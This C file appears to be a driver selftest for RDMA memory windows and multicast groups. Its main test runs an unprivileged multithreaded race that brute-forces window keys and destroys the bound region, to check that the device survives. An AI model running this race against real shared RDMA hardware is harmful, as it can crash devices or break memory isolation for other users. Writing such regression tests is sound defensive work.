// SPDX-License-Identifier: GPL-2.0 OR Linux-OpenIB
/*
 * A process without privileges makes the device refuse commands, with its own
 * objects in several threads. The driver must not give the device up for that.
 */
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <sys/prctl.h>
#include <sys/wait.h>

#include "verbs.h"

#define NOBODY 65534
#define LEN 4096
/* Windows that are created at a time */
#define WINDOWS 16
/* The index of the next key is one of as many as these, at random. */
#define INDEXES 1024
/* Guesses for the key of one of the windows, before the next ones are made */
#define GUESSES (2 * INDEXES / WINDOWS)
/*
 * A command takes less than this, and has to be interrupted at some point in it
 */
#define COMMAND_NS 500000

/**
 * struct attack - a window is bound before the call that makes it has returned
 * @e: the end whose queue binds
 * @mws: the windows
 * @round: counts up when new windows are wanted
 * @done: calls that have returned in this round
 * @tried: a window was bound and destroying its region tried, or all guesses
 *	were wrong
 * @stop: the threads have to end
 */
struct attack {
	struct end e;
	struct ibv_mw *mws[WINDOWS];
	atomic_uint round;
	atomic_uint done;
	atomic_bool tried;
	atomic_bool stop;
};

/* A thread that makes one of them */
struct maker {
	struct attack *attack;
	struct ibv_mw **mw;
	pthread_t thread;
};

static int run_on(int cpu)
{
	cpu_set_t cpus;

	CPU_ZERO(&cpus);
	CPU_SET(cpu, &cpus);
	return sched_setaffinity(0, sizeof(cpus), &cpus);
}

/* This thread runs only while no other one wants the processor. */
static void *make_windows(void *arg)
{
	struct sched_param param = {};
	struct maker *maker = arg;
	struct attack *attack = maker->attack;
	unsigned int round = 0;

	if (run_on(0) ||
	    pthread_setschedparam(pthread_self(), SCHED_IDLE, &param))
		return (void *)1L;
	while (!atomic_load(&attack->stop)) {
		if (atomic_load(&attack->round) == round) {
			sched_yield();
			continue;
		}
		round++;
		*maker->mw = ibv_alloc_mw(attack->e.pd, IBV_MW_TYPE_1);
		atomic_fetch_add(&attack->done, 1);
	}
	return NULL;
}

/* Interrupts the other threads, at a different point each time */
static void *disturb(void *arg)
{
	struct timespec pause = {};
	struct attack *attack = arg;
	unsigned int seed = 1;

	if (run_on(0) || prctl(PR_SET_TIMERSLACK, 1UL))
		return (void *)1L;
	while (!atomic_load(&attack->stop)) {
		unsigned int round = atomic_load(&attack->round);

		pause.tv_nsec = rand_r(&seed) % COMMAND_NS;
		nanosleep(&pause, NULL);
		while (atomic_load(&attack->round) == round &&
		       !atomic_load(&attack->tried) &&
		       !atomic_load(&attack->done))
			;
	}
	return NULL;
}

/* True if there is such a window; a queue pair that finds none fails */
static bool bind_guess(struct end *e, struct ibv_mr *mr, uint32_t key)
{
	struct ibv_mw mw = {
		.context = e->ctx,
		.pd = e->pd,
		.rkey = key,
		.type = IBV_MW_TYPE_1,
	};
	struct ibv_mw_bind bind = {
		.send_flags = IBV_SEND_SIGNALED,
		.bind_info = { .mr = mr,
			       .addr = (uintptr_t)mr->addr,
			       .length = LEN,
			       .mw_access_flags = IBV_ACCESS_REMOTE_READ },
	};
	struct ibv_wc wc;

	return !ibv_bind_mw(e->qp, &mw, &bind) && wait_wc(e->cq, &wc) &&
	       !wc.status;
}

static int restart(struct end *e)
{
	struct ibv_qp_attr attr = { .qp_state = IBV_QPS_RESET };
	int err = ibv_modify_qp(e->qp, &attr, IBV_QP_STATE);

	return err ? err : to_rts(e, e);
}

/*
 * Try while no window is known. Return: whether one of them was bound; -1 for an
 * error.
 */
static int guess(struct attack *attack, struct ibv_mr *mr)
{
	uint32_t leaf = mr->rkey & ~((INDEXES << 8) - 1);

	for (int i = 0; i < GUESSES; i++) {
		uint32_t index = rand() % INDEXES;

		if (atomic_load(&attack->done))
			break;
		if (bind_guess(&attack->e, mr,
			       leaf | index << 8 | (mr->rkey & 0xff)))
			return 1;
		if (restart(&attack->e))
			return -1;
	}
	return 0;
}

static bool free_windows(struct attack *attack)
{
	bool good = true;

	for (int i = 0; i < WINDOWS; i++)
		if (!attack->mws[i] || ibv_dealloc_mw(attack->mws[i]))
			good = false;
	return good;
}

/*
 * Create windows while their keys are guessed, and then destroy the region at
 * once to which one was bound. Return: 0; EBUSY if that was refused before any
 * window was known; -1 for an error.
 */
static int race(struct attack *attack)
{
	struct end *e = &attack->e;
	struct ibv_mr *mr =
		ibv_reg_mr(e->pd, e->buf, LEN,
			   IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_MW_BIND);
	int bound, err = 0;

	if (!mr)
		return -1;
	atomic_store(&attack->tried, false);
	atomic_store(&attack->done, 0);
	atomic_fetch_add(&attack->round, 1);
	bound = guess(attack, mr);
	if (bound > 0) {
		err = ibv_dereg_mr(mr);
		if (!err)
			return -1;
		if (atomic_load(&attack->done))
			err = 0;
	}
	atomic_store(&attack->tried, true);
	while (atomic_load(&attack->done) < WINDOWS)
		sched_yield();
	if (bound < 0 || !free_windows(attack) || ibv_dereg_mr(mr))
		return -1;
	return err;
}

static bool is_alive(struct ibv_context *ctx)
{
	struct pollfd fd = { .fd = ctx->async_fd, .events = POLLIN };
	struct ibv_async_event event;
	struct ibv_pd *pd;

	while (poll(&fd, 1, 0) > 0) {
		if (ibv_get_async_event(ctx, &event))
			return false;
		ibv_ack_async_event(&event);
		if (event.event_type == IBV_EVENT_DEVICE_FATAL)
			return false;
	}
	pd = ibv_alloc_pd(ctx);
	return pd && !ibv_dealloc_pd(pd);
}

static bool start_makers(struct attack *attack, struct maker *makers)
{
	for (int i = 0; i < WINDOWS; i++) {
		makers[i].attack = attack;
		makers[i].mw = &attack->mws[i];
		if (pthread_create(&makers[i].thread, NULL, make_windows,
				   &makers[i]))
			return false;
	}
	return true;
}

static bool join_makers(struct maker *makers)
{
	void *failed;

	for (int i = 0; i < WINDOWS; i++)
		if (pthread_join(makers[i].thread, &failed) || failed)
			return false;
	return true;
}

/* Runs in a separate process. Return: 0 if the device has survived */
static int attack_windows(void)
{
	struct attack attack = { .e.ctx = open_mynic(0) };
	struct maker makers[WINDOWS];
	int status = 0, rounds = 0;
	time_t end = deadline();
	pthread_t disturber;
	void *failed;

	/* Without another processor, this takes a little longer */
	run_on(1);
	if (setgid(NOBODY) || setuid(NOBODY))
		return 2;
	if (!attack.e.ctx || !make_end(&attack.e, IBV_QPT_RC) ||
	    to_rts(&attack.e, &attack.e) || !start_makers(&attack, makers) ||
	    pthread_create(&disturber, NULL, disturb, &attack))
		return 3;
	do {
		status = race(&attack);
		rounds++;
	} while (!status && time(NULL) < end);
	atomic_store(&attack.stop, true);
	if (!join_makers(makers) || pthread_join(disturber, &failed) ||
	    failed || status < 0)
		return 4;
	if (!is_alive(attack.e.ctx))
		return 5;
	printf("# the region of an unknown window was destroyed in round %d\n",
	       rounds);
	if (!status)
		return 7;
	return free_end(&attack.e) || ibv_close_device(attack.e.ctx) ? 6 : 0;
}

TEST(window_bound_before_it_is_known)
{
	pid_t pid = fork();
	int status;

	ASSERT_GE(pid, 0);
	if (!pid) {
		status = attack_windows();
		fflush(stdout);
		_exit(status);
	}
	ASSERT_EQ(waitpid(pid, &status, 0), pid);
	EXPECT_EQ(status, 0);
}

/*
 * On Ethernet, a group has no LID. But the RDMA core treats two LIDs as two
 * attachments, and destroys no queue pair before both are detached.
 */
static bool attach_twice(struct end *e, const union ibv_gid *group)
{
	return make_end(e, IBV_QPT_UD) &&
	       !ibv_attach_mcast(e->qp, group, 0xc001) &&
	       !ibv_attach_mcast(e->qp, group, 0xc002);
}

static const union ibv_gid some_group = {
	.raw = { 0xff, 0x0e, [15] = 0x77 },
};

TEST(group_with_two_lids)
{
	struct end e = { .ctx = open_mynic(0) };

	ASSERT_NE(e.ctx, NULL);
	ASSERT_TRUE(attach_twice(&e, &some_group));
	EXPECT_EQ(ibv_detach_mcast(e.qp, &some_group, 0xc001), 0);
	EXPECT_EQ(ibv_destroy_qp(e.qp), EBUSY);
	EXPECT_EQ(ibv_detach_mcast(e.qp, &some_group, 0xc002), 0);
	EXPECT_EQ(ibv_detach_mcast(e.qp, &some_group, 0xc002), EINVAL);
	EXPECT_EQ(free_end(&e), 0);
	EXPECT_EQ(ibv_close_device(e.ctx), 0);
}

/* The kernel then detaches them; dmesg.sh notices if it cannot */
TEST(process_ends_in_a_group)
{
	pid_t pid = fork();
	int status;

	ASSERT_GE(pid, 0);
	if (!pid) {
		struct end e = { .ctx = open_mynic(0) };

		_exit(!e.ctx || !attach_twice(&e, &some_group));
	}
	ASSERT_EQ(waitpid(pid, &status, 0), pid);
	EXPECT_EQ(status, 0);
}

TEST_HARNESS_MAIN
